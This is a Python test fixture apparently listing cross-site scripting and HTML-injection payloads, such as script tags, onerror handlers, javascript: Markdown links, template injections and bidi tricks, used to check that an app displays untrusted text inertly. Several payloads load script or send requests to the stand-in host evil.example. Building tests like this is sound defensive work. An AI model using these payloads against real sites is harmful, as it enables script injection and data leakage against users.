"""Markup and script that texts, titles, file names, mails, model output, questions and uploads bring to the pages.

Each payload, where it ran, would set `window.hostile`, open a dialog, or ask evil.example: the fixture `visit` fails on
the dialogs and requests, and `browsing.harmless` on the rest. None of them is shown as anything but text. `PAYLOADS`
are all; `names()` are those that a file on this system can be called.
"""

_RUN = "window.hostile=1;alert(1)"
_ASK = "http://evil.example:9"

PAYLOADS = (
    # tags that run
    f"<script>{_RUN}</script>",
    f"<ScRiPt src={_ASK}/a.js></sCrIpT>",
    f"<img src=x onerror={_RUN}>",
    f'"><img src=x onerror="{_RUN}">',
    f"'><svg onload='{_RUN}'>",
    f"<svg><script>{_RUN}</script></svg>",
    f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    f"<details open ontoggle={_RUN}>x</details>",
    f"<body onload={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f'<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={_RUN}&gt;">',
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"</textarea></title></style></script><script>{_RUN}</script>",
    f"<template><img src=x onerror={_RUN}></template>",
    # tags that ask another server
    f"<img src={_ASK}/pixel.png>",
    f'<link rel=stylesheet href="{_ASK}/a.css">',
    f'<style>@import "{_ASK}/b.css"; body {{ background: url({_ASK}/c.png) }}</style>',
    f'<meta http-equiv=refresh content="0;url={_ASK}/away">',
    f'<base href="{_ASK}/">',
    f'<object data="{_ASK}/o.swf"></object><embed src="{_ASK}/e.swf">',
    f'<form action="{_ASK}/"><button autofocus>Send</button></form>',
    f'<a href="{_ASK}/" ping="{_ASK}/ping">a link</a>',
    # links and images in Markdown, and what Streamlit's Markdown knows
    f"[click](javascript:{_RUN})",
    f"![pixel]({_ASK}/d.png)",
    f"<javascript:{_RUN}>",
    f"[ref]: {_ASK}/ref\n![ref]",
    f"[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) {_ASK}/bare",
    ":material/delete: :red[red] :smile: $\\href{javascript:alert(1)}{x}$ $$\\sum_1^2$$",
    f"| a | b |\n|---|---|\n| <img src=x onerror={_RUN}> | ![p]({_ASK}/e.png) |",
    # attributes, comments, entities, templates
    f'" onmouseover="{_RUN}" style="position:fixed;inset:0" autofocus onfocus="{_RUN}" x="',
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    f"<!-- --><img src=x onerror={_RUN}> --><![CDATA[<script>{_RUN}</script>]]>",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= alert(1) %> {window.hostile}",
    # what changes how the neighbours look
    f"\u202etxt.exe\u202c \u2066<img src=x onerror={_RUN}>\u2069 \u200b\u00ad",
    f"fn-1-1' id='fn-1-1' <mark id=fn-1-1><a href=#fn-1-1 onclick={_RUN}>[1]</a></mark> [1] [999]",
)


def names(ending: str = "") -> list[str]:
    """Return the payloads as names of files: without the characters that end a name, and not too long."""
    cleaned = (text.replace("/", "\u2215").replace("\n", " ").replace("\0", "") for text in PAYLOADS)
    return [text.encode()[: 200 - len(ending)].decode(errors="ignore") + ending for text in cleaned]
